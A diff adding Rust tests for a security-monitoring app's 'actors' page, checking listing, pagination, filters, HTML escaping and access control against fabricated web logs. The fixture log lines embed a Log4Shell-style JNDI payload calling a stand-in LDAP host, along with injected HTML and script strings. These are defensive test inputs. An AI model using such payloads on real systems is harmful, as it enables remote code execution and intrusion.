@@ -1,0 +1,94 @@
+//! The pages of the watch: the actors, and who may see them.
+
+use relight_engine::watch::Feed;
+
+use crate::door_support::{START, World, clock, person};
+
+/// 2021-12-10, when everything in these tests happens.
+const DAY: &str = "10/Dec/2021";
+
+/// A register in whose logs so many addresses tried a payload at `care`, and one at `power`.
+fn start(now: fn() -> i64, addresses: usize) -> (World, String) {
+    let mut viewer = String::new();
+    let world = World::start(now, |store| viewer = person(store, "viewer", 1, &[("viewer", "/")]));
+    let line = |address: String, minute: usize| {
+        format!(
+            "{address} - - [{DAY}:12:{minute:02}:00 +0000] \"GET /?q=${{jndi:ldap://x.test/a}} \
+             HTTP/1.1\" 200 12 \"-\" \"<b>agent</b>\"\n"
+        )
+    };
+    let many: String = (0..addresses).map(|at| line(format!("192.0.2.{at}"), at % 60)).collect();
+    for (slug, lines) in [("care", many), ("power", line("203.0.113.9".into(), 30))] {
+        let sites = world.store.sites().unwrap();
+        let site = sites.into_iter().find(|site| site.slug.as_str() == slug).unwrap();
+        let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
+        world.engine.ingest_log(&feed, std::io::Cursor::new(lines)).unwrap();
+    }
+    (world, viewer)
+}
+
+/// The rows of a page.
+fn rows(page: &str) -> Vec<&str> {
+    page.split("<tr><th scope=\"row\">")
+        .skip(1)
+        .map(|it| it.split("</tr>").next().unwrap())
+        .collect()
+}
+
+#[test]
+fn actors_are_listed_and_filtered_within_the_limit_of_rows() {
+    clock!(now, now_set);
+    now_set(START);
+    let (world, viewer) = start(now, 130);
+    let get = |query: &str| {
+        let (status, _, page) = world.get(&format!("/watch/actors?lang=en{query}"), &viewer);
+        assert_eq!(status, 200, "{query}: {page}");
+        page
+    };
+    let page = get("");
+    assert!(page.contains("131 actors") && page.contains("Page 1 of 2"), "{page}");
+    assert_eq!(rows(&page).len(), 100);
+    assert_eq!(rows(&get("&page=2")).len(), 31);
+    assert!(page.contains("&#38;page=2\" rel=\"next\""), "{page}");
+    for (query, count) in [
+        ("&q=192.0.2.12", 11),
+        ("&q=203.0.113.9", 1),
+        ("&q=203.0.113.9&sector=energy", 1),
+        ("&q=203.0.113.9&sector=health", 0),
+        ("&sector=energy", 1),
+        ("&state=S5", 0),
+        ("&from=2021-12-10&to=2021-12-10&q=203.", 1),
+        ("&from=2021-12-11", 0),
+        ("&to=2021-12-09", 0),
+        ("&q=%3Cscript%3E", 0),
+    ] {
+        let page = get(query);
+        assert_eq!(rows(&page).len(), count, "{query}: {page}");
+        assert!(!page.contains("<script>") && !page.contains("<b>agent"), "{page}");
+        assert_eq!(page.contains("No actor fits."), count == 0, "{query}");
+    }
+    let page = get("&sector=energy");
+    let row = rows(&page)[0];
+    for part in ["<code>203.0.113.9</code>", "2021-12-10", ">Energy<", "href=\"/watch?lang=en#C-"] {
+        assert!(row.contains(part), "{part}: {row}");
+    }
+    // The page of campaigns leads there with its days, and both say what it is not.
+    let (_, _, watch) = world.get("/watch?lang=en&from=2021-12-01", &viewer);
+    let link = "href=\"/watch/actors?lang=en&#38;from=2021-12-01&#38;to=\"";
+    assert!(watch.contains(link), "{watch}");
+    assert!(page.contains("Reconnaissance is not"), "{page}");
+    world.web.stop();
+}
+
+#[test]
+fn whoever_reads_a_part_of_the_register_sees_no_actor() {
+    clock!(now, now_set);
+    now_set(START);
+    let mut owner = String::new();
+    let world = World::start(now, |store| {
+        owner = person(store, "owner", 1, &[("site-owner", "health/Hospital")]);
+    });
+    assert_eq!(world.get("/watch/actors", &owner).0, 403);
+    assert_eq!(world.get("/watch/actors", "").0, 303);
+    world.web.stop();
+}
